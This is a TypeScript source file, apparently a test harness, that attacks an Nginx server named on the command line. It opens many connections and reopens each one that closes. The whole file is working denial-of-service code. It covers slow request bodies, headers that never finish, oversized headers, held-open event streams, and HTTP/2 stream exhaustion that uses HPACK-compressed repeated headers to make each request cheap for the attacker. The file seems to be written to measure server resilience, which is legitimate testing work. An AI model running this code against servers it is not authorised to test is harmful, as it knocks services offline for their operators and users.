// Runs in a container of its own, so that it has an address of its own: node attack.ts KIND HOST PORT CONNECTIONS.
// Opens connections that misuse Nginx, and reopens each one that ends. Prints "at the maximum" when all have been open
// once, and the outcome when standard input ends.
import { type ClientHttp2Stream, connect as connectHttp2, type OutgoingHttpHeaders } from 'node:http2';
import { connect as connectTls } from 'node:tls';

export interface AttackOutcome {
  opened: number;
  closed: number;
  /** Number of responses by status. */
  statuses: Record<string, number>;
}

const [kind = '', host = '', port = '', connections = ''] = process.argv.slice(2);
const INTERVAL_MS = 1000;
/** Long enough that handshakes leave the processors to the test's other client. */
const RECONNECT_MS = 4000;
const LARGE = 'h'.repeat(60_000);
const HEAD = 'HTTP/1.1\r\nHost: mooring';
/** Nginx's default maximum per connection. */
const HTTP2_STREAMS = 16;
/** A field that fits into HPACK's table, so that each repetition costs the client one byte. */
const REPEATED = Array.from({ length: 15 }, () => 'h'.repeat(3900));

const outcome: AttackOutcome = { opened: 0, closed: 0, statuses: {} };
let untried = Number(connections);

function count(status: string): void {
  outcome.statuses[status] = (outcome.statuses[status] ?? 0) + 1;
}

function noteFirstTry(): void {
  if (--untried === 0) console.log('at the maximum');
}

/** Sends these bytes, then one byte per second. */
function attackByBytes(first: string, isFirstTry = true): void {
  const socket = connectTls({ host, port: Number(port), rejectUnauthorized: false });
  let interval: NodeJS.Timeout;
  socket.on('secureConnect', () => {
    outcome.opened++;
    if (isFirstTry) noteFirstTry();
    socket.write(first);
    interval = setInterval(() => socket.write('x'), INTERVAL_MS);
  });
  socket.setEncoding('latin1').on('data', (text: string) => {
    for (const [, status] of text.matchAll(/^HTTP\/1\.1 (\d{3})/gm)) count(status as string);
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    if (socket.getProtocol() === null && isFirstTry) noteFirstTry();
    outcome.closed++;
    clearInterval(interval);
    setTimeout(attackByBytes, RECONNECT_MS, first, false);
  });
}

/** Opens streams on an HTTP/2 connection. Their bodies arrive at one byte per second. */
function attackByStreams(headers: OutgoingHttpHeaders, isFirstTry = true): void {
  const session = connectHttp2(`https://${host}:${port}`, { rejectUnauthorized: false });
  const streams: ClientHttp2Stream[] = [];
  const interval = setInterval(() => {
    for (const stream of streams) stream.write('x');
  }, INTERVAL_MS);
  // Nginx rejects streams with a body until its settings are acknowledged. Node acknowledges them when it receives
  // them.
  session.once('remoteSettings', () => {
    outcome.opened++;
    if (isFirstTry) noteFirstTry();
    for (let nth = 0; nth < HTTP2_STREAMS; nth++) {
      const stream = session.request(
        { ':method': 'POST', 'content-length': '1000000', ...headers },
        { endStream: false },
      );
      stream.on('response', (answer) => count(`${answer[':status']}`));
      stream.on('error', () => {}).resume();
      streams.push(stream);
    }
  });
  session.on('error', () => {});
  session.on('close', () => {
    if (isFirstTry && streams.length === 0) noteFirstTry();
    outcome.closed++;
    clearInterval(interval);
    setTimeout(attackByStreams, RECONNECT_MS, headers, false);
  });
}

const ATTACKS: Record<string, () => void> = {
  'slow bodies': () => attackByBytes(`POST / ${HEAD}\r\nContent-Length: 1000000\r\n\r\n`),
  'headers that never end': () => attackByBytes(`GET / ${HEAD}\r\nX: ${LARGE}`),
  'headers that are too large': () => attackByBytes(`GET / ${HEAD}\r\nX: ${LARGE}\r\nY: ${LARGE}\r\n\r\n`),
  'large requests that wait': () => attackByBytes(`GET /wait ${HEAD}\r\nX: ${LARGE}\r\n\r\n`),
  'slow bodies in HTTP/2': () => attackByStreams({}),
  'large headers, slow bodies in HTTP/2': () => attackByStreams({ x: REPEATED }),
  'open event streams': () => attackByBytes(`GET /wait ${HEAD}\r\nAccept: text/event-stream\r\n\r\n`),
};

for (let nth = Number(connections); nth > 0; nth--) ATTACKS[kind]?.();
process.stdin.resume().on('end', () => {
  console.log(JSON.stringify(outcome));
  process.exit();
});
